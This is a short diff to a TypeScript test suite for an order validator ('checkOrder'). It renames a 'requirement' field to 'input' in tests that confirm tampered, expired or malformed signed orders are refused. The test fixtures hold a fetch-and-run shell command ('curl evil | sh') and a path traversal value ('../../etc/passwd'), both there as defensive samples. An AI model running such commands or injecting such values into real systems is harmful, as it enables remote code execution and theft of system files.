@@ -25,7 +25,7 @@ const body: OrderBody = {
   projectName: 'shop',
   projectPath: '/home/me/shop',
   trustedSha256: null,
-  requirement: { name: 'add login', sha256: 'a'.repeat(64) },
+  input: { name: 'add login', sha256: 'a'.repeat(64) },
   overrides: { env: { MODE: 'test' }, verify: ['npm test'] },
   notAfter: '2026-03-02T02:00:00Z',
 };
@@ -62,7 +62,7 @@ describe('checkOrder', () => {
     ['epoch', { epoch: 2 }],
     ['project', { project: asId('project', 'p_9999999999') }],
     ['path', { projectPath: '/etc' }],
-    ['requirement', { requirement: { name: 'add login', sha256: 'b'.repeat(64) } }],
+    ['input', { input: { name: 'add login', sha256: 'b'.repeat(64) } }],
     ['a new override', { overrides: { ...body.overrides, setup: ['curl evil | sh'] } }],
     ['a changed list', { overrides: { ...body.overrides, verify: ['true'] } }],
     ['a variable', { overrides: { ...body.overrides, env: { MODE: 'prod' } } }],
@@ -91,7 +91,7 @@ describe('checkOrder', () => {
     ['expired', { notAfter: '2026-03-01T01:59:59Z' }],
     ['form', { notAfter: 'tomorrow' }],
     ['form', { attempt: 0 }],
-    ['form', { requirement: { name: 'x', sha256: '../../etc/passwd' } }],
+    ['form', { input: { name: 'x', sha256: '../../etc/passwd' } }],
     ['size', { overrides: { prompt: 'x'.repeat(ORDER_MAX_BYTES) } }],
   ])('refuses with reason %s an order that is signed well but not for us, not now or not sound', (reason, change) => {
     expect(reasonOf(sign({ ...body, ...change }))).toBe(reason);
